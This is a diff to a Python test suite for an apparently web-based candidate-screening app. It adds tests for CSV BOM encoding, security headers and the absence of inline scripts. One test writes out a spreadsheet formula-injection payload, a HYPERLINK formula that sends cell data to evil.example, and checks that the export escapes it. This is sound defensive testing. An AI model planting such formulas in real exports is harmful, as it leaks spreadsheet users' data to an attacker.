@@ -130,7 +130,9 @@ def test_a_screening_end_to_end(site, tmp_path):
     board = client.get(screening).text
     assert "Chen Wei" in board and "finished" in board
     assert "Scores are advice" in board
-    rows = list(csv.DictReader(io.StringIO(client.get(f"{screening}/export.csv").text)))
+    exported = client.get(f"{screening}/export.csv").text
+    assert exported.startswith("\ufeff")  # Excel reads the UTF-8 names right
+    rows = list(csv.DictReader(io.StringIO(exported.removeprefix("\ufeff"))))
     assert rows[0]["candidate"] == "Chen Wei" and float(rows[0]["overall"]) > 0 and rows[0]["q3"]
 
     invite_id = re.search(r'href="/candidates/(\d+)"', board).group(1)
@@ -261,3 +263,35 @@ def test_candidate_pages_speak_the_banks_language(site):
     assert "I agree to have my answers recorded and reviewed." in consent and '<html lang="en">' in consent
     zh_link = invite(client, csrf, new_screening(client, csrf, questions="1"), "陈")
     assert '<html lang="zh-CN">' in TestClient(client.app).get(zh_link).text
+
+
+def test_every_page_carries_the_security_headers_and_no_inline_script(site):
+    client, _ = site
+    csrf = logged_in(client)
+    link = invite(client, csrf, new_screening(client, csrf, questions="3"), "Headers")
+    candidate = TestClient(client.app, follow_redirects=True)
+    page = candidate.post(f"{link}/start", data={"consent": "yes"})
+    for response in (client.get("/login"), client.get("/"), page):
+        policy = response.headers["content-security-policy"]
+        assert "script-src 'self'" in policy and "frame-ancestors 'none'" in policy
+        assert response.headers["x-frame-options"] == "DENY"
+        assert response.headers["x-content-type-options"] == "nosniff"
+        assert response.headers["referrer-policy"] == "no-referrer"
+        assert response.headers["cache-control"] == "no-store"
+    assert re.findall(r"<script[^>]*>", page.text) == ['<script src="/static/candidate.js">']
+    script = candidate.get("/static/candidate.js")
+    assert (
+        script.status_code == 200
+        and "sendBeacon" in script.text
+        and "no-store" not in script.headers.get("cache-control", "")
+    )
+
+
+def test_the_csv_export_never_carries_a_live_formula(site):
+    client, _ = site
+    csrf = logged_in(client)
+    screening = new_screening(client, csrf, questions="3")
+    invite(client, csrf, screening, '=HYPERLINK("http://evil.example/?"&A1,"Click")')
+    exported = client.get(f"{screening}/export.csv").text.removeprefix("\ufeff")
+    [row] = list(csv.DictReader(io.StringIO(exported)))
+    assert row["candidate"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
